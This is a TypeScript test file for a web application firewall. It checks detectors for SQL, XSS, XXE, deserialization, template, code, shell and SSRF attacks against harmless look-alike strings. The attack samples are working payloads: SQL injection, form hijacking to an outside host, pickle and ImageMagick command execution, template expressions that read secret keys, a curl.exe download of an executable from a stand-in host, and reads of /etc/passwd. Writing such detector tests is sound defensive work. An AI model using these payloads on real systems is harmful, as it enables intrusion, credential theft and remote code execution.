// What the sixteenth trial showed, each class beside what looks like it and means no harm.
import { test } from 'node:test';
import { detectCode } from '../../../src/guard/decide/waf/detect/code/code.ts';
import { detectDeserialization } from '../../../src/guard/decide/waf/detect/deserialization/deserialization.ts';
import type { Detector } from '../../../src/guard/decide/waf/detect/finding.ts';
import { detectNosql } from '../../../src/guard/decide/waf/detect/nosql/nosql.ts';
import { detectShell } from '../../../src/guard/decide/waf/detect/shell/shell.ts';
import { detectSql } from '../../../src/guard/decide/waf/detect/sql/sql.ts';
import { detectSsrf } from '../../../src/guard/decide/waf/detect/ssrf/ssrf.ts';
import { detectTemplate } from '../../../src/guard/decide/waf/detect/template/template.ts';
import { detectXss } from '../../../src/guard/decide/waf/detect/xss/xss.ts';
import { detectXxe } from '../../../src/guard/decide/waf/detect/xxe/xxe.ts';
import { blocks, passes } from './judged.ts';

const stylesheet = (names: string, body: string): string =>
  `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" ${names}><xsl:template match="/">${body}</xsl:template></xsl:stylesheet>`;

const classes: readonly [string, Detector, readonly string[], readonly string[]][] = [
  [
    'functions of libraries, dollar quotes with any tag, blocks and rows of Firebird are read as SQL',
    detectSql,
    [
      "1; create function f returns string soname 'x.so'",
      "1;create aggregate function f returns integer soname 'x.so'",
      '1;do language plpgsql $a1$begin perform 1;end$a1$',
      "';do language plpgsql $_$begin execute 'drop table a';end$_$--",
      '1 and 1=(select first 1 skip 2 rdb$relation_name from rdb$relations)',
      'begin dbms_lock.sleep(9); end;',
      "' + convert(int,@@servername) + '",
      "'+@@version+'",
      "7+if(mid(user(),1,1)='a',1,0)",
    ],
    [
      'create a function that returns a string, soname unknown',
      'We do language courses: $5_000 and $7_000',
      'select first 10 people, please',
      'begin at 9; end;',
      'mail @@ home',
      '7+if(a,b,c)',
      '=7+IF(MID(A1,1,1)="a",1,0)',
    ],
  ],
  [
    'words between quotes and a benchmark of one number are no SQL, what goes on behind them is',
    detectSql,
    ['x" order by 9-- ', 'x" or "a"="a', '1 and benchmark(9e6,md5(1))', 'x" order by "1'],
    [
      'where\'s the "order by" button?',
      'my "group by" filter is gone',
      'benchmark (10k) results',
      'benchmark(500) of last week',
    ],
  ],
  [
    'markup that is written in codes, and a form of the page that is sent elsewhere, are attacks',
    detectXss,
    [
      '<script>document.write(String.fromCharCode(60,115,118,103,47,111,110,108,111,97,100,61,97,108,101,114,116,40,49,41,62))</script>',
      '";document.forms[0].action="//x.test/";"',
      "';document.login.action='https://x.test/a';'",
    ],
    [
      'document.title=String.fromCharCode(169)',
      'The form posts to document.action = "save".',
      '"; document.forms[0].action="/save"; "',
    ],
  ],
  [
    'functions of PHP and scripts in XSLT are known by their namespace, whatever its prefix',
    detectXxe,
    [
      stylesheet('xmlns:p="http://php.net/xsl"', `<xsl:value-of select="p:function('phpinfo')"/>`),
      stylesheet(
        'xmlns:u="urn:schemas-microsoft-com:xslt"',
        '<u:script language="C#">int f(){return 1;}</u:script>',
      ),
    ],
    [stylesheet('xmlns:p="http://shop.example/p"', `<xsl:value-of select="p:function('a')"/>`)],
  ],
  [
    'a pickle of text is walked by its opcodes, whatever data comes first',
    detectDeserialization,
    ["(dp0\nS'x'\ncposix\nsystem\np1\n(S'id'\ntRs.", "(lp0\nVa\np1\naccommands\ngetoutput\n(S'id'\ntRa."],
    [
      ...["(dp0\nS'x'\nI1\ns.", '(see below)\ncall me\nRead it.', 'copy\nthe files\nRight away.'],
      // Lists of words, whose first begins like a name of a module.
      ...['cook\neggs\nReady.', 'cats\ndogs\nRabbits (two)', 'cos\nsin\ntan\nR', 'cooking\nwashing\ntR.'],
    ],
  ],
  [
    'a UNION with a pattern of a graph is a query of it',
    detectNosql,
    ['1 UNION MATCH (u:User) RETURN u.password', 'x union all match (n) where n.a=1 return n'],
    ['The union match (football) was great', 'union match (2024) return ticket'],
  ],
  [
    'what the environment holds and a map of a class are expressions',
    detectTemplate,
    [
      "#{systemEnvironment['AWS_SECRET_ACCESS_KEY']}",
      "#{ systemEnvironment['DB_PASSWORD'] }",
      '(#a.b=#@org.apache.commons.collections.BeanMap@{})',
    ],
    [
      '@Value("#{systemProperties[\'user.home\']}") private String home;',
      'write to #@ann',
      '#{system}',
      "#{systemProperties['user.home']}",
    ],
  ],
  [
    'what runs where it is defined or drawn, and what a form or a framework calls by its name, is code',
    detectCode,
    [
      '@exec(\'raise Exception(__import__("os").popen("id").read())\')\ndef f():\n  pass',
      'def f(a=exec("import os")):\n  pass',
      "@php system('id') @endphp",
      'os:cmd("id").',
      "require 'socket';c=TCPSocket.new('x.test',9)",
      'import scala.sys.process._;"id".!',
      'mail[#post_render][]',
      '{"class":"a\\\\b\\\\C","__class":"GuzzleHttp\\\\Psr7\\\\FnStream","__construct()":[[]]}',
      '%!PS\nmark /OutputFile (%pipe%id) currentdevice putdeviceprops',
      'push graphic-context\nviewbox 0 0 640 480\nfill \'url(https://x.test/a.jpg"|id")\'\npop graphic-context',
    ],
    [
      '@app.route("/a")\ndef f():\n  pass',
      'def f(a=None):\n  return exec',
      'Ask @php or @ann about the system (mail)',
      "require 'socket'\nserver = TCPServer.new 2000",
      'import scala.sys.process._',
      'list[#1]',
      '{"class":"A","items":[]}',
      '%!PS\n/Helvetica findfont 12 scalefont setfont\n(pipe) show',
      '<div style="background:url(https://shop.example/a.png)" title="a | b">',
    ],
  ],
  [
    'a tool of POSIX is one with the extension of Windows as well',
    detectShell,
    ['&curl.exe http://x.test/a -o a.exe', 'x|wget.exe x.test/a'],
    ['cats & curl.exercise', 'wget.example is a host'],
  ],
  [
    'a file without any folder is one beside whoever reads it',
    detectSsrf,
    ['file:///etc/passwd', 'file:/etc/hosts', 'file://x.test/share/a'],
    ['file:report.pdf', 'file:Annual report (final).docx'],
  ],
  [
    'tables that are renamed, and rows of another server that are put in, are statements',
    detectSql,
    ['8;rename table users to x', "';insert openrowset('a','b','select 1') select name from sys.tables--"],
    ['rename table, then go to lunch', 'please insert openrowset here', '8; rename table by hand'],
  ],
  [
    'what a loop goes over is judged, and all that an engine knows',
    detectTemplate,
    ['{% for k,v in config.items() %}{{k}}{% endfor %}', '<#list .globals?keys as k>${k}</#list>'],
    [
      '{% for k, v in order.items() %}{{k}}{% endfor %}',
      '{% for i in range(10) %}{{i}}{% endfor %}',
      '{% for item in items %}',
      '<#list globals as g>${g}</#list>',
    ],
  ],
  [
    'variables made of a request, addresses that Java opens, pickles that are read and files that are deleted are code',
    detectCode,
    [
      'extract($_GET);',
      'parse_str($_POST["a"]);',
      'new java.net.URL("http://x.test").openStream()',
      'pickle.loads(b"cos\\nsystem\\n(S\'id\'\\ntR.")',
      'System.IO.File.Delete("C:\\\\x")',
    ],
    [
      'extract($args);',
      'new URL("http://shop.example")',
      'pickle.loads(data)',
      'File.Delete("report.txt")',
      'Extract (the PDF) first',
    ],
  ],
];

for (const [name, detect, attacks, benign] of classes)
  test(name, () => {
    blocks(detect, attacks);
    passes(detect, benign);
  });
